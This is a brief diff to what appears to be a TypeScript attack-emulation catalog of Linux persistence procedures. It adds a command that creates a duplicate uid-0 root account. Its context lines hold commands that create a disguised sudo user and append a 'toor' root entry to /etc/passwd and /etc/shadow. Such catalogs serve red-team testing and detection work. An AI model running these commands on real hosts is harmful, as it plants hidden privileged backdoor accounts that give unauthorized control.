@@ -39,6 +39,7 @@ export const persistence: Technique[] = [
     tactic: 'persistence',
     procedures: [
       { name: 'useradd with a password', script: 'useradd -M -s /bin/bash -G sudo sysupdate && echo "sysupdate:Upd4te-2026" | chpasswd' },
+      { name: 'useradd -o -u 0 (a second root)', script: 'useradd -o -u 0 -g 0 -M -d /root -s /bin/bash sysbackup' },
       {
         name: 'uid 0 account appended to /etc/passwd and /etc/shadow',
         script: `echo 'toor:x:0:0:toor:/root:/bin/bash' >> /etc/passwd && echo "toor:$(openssl passwd -6 Lab-toor-2026):20000:0:99999:7:::" >> /etc/shadow`,
